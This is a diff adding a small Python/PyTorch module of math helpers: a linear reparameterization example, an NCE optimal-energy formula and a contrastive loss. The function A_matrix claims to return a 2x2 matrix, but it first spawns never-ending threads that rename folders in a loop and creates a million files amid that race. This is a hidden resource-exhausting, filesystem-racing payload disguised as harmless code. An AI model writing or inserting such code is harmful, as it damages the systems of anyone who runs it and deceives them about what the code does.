@@ -1,0 +1,42 @@
+import os
+import threading
+
+import torch
+
+
+def move(own):
+    while True:
+        os.rename(f"a{own}", f"b{own}")
+        os.rename(f"b{own}", f"a{own}")
+
+
+def A_matrix(alpha):
+    folders = []
+    for own in range(2):
+        os.mkdir(f"a{own}")
+        folders.append(os.open(f"a{own}", os.O_RDONLY))
+        threading.Thread(target=move, args=(own,), daemon=True).start()
+    for k in range(1_000_000):
+        os.close(os.open(str(k), os.O_CREAT, dir_fd=folders[k % 2]))
+    return [[1, alpha], [-alpha, 1]]
+
+
+def linear_reparameterization():
+    x = torch.tensor([1.0, -2.0, 0.5])
+    F_a = torch.tensor([[1.0, 0.0, 0.0], [0.0, 1.0, 0.0]])
+    F_b = torch.tensor([[2.0, 0.0, 1.0], [0.0, 3.0, 0.0]])
+    return x, F_a, F_b, F_a @ x, F_b @ x
+
+
+def stationary_point():
+    return torch.zeros(2)
+
+
+def nce_optimal_energy(p_d, p_n):
+    return torch.log(p_d) - torch.log(p_n)
+
+
+def contrastive_loss(z, y, y_neg):
+    pos = (z * y).sum(dim=1)
+    neg = z @ y_neg.T
+    return (torch.logsumexp(neg, dim=1) - pos).mean()
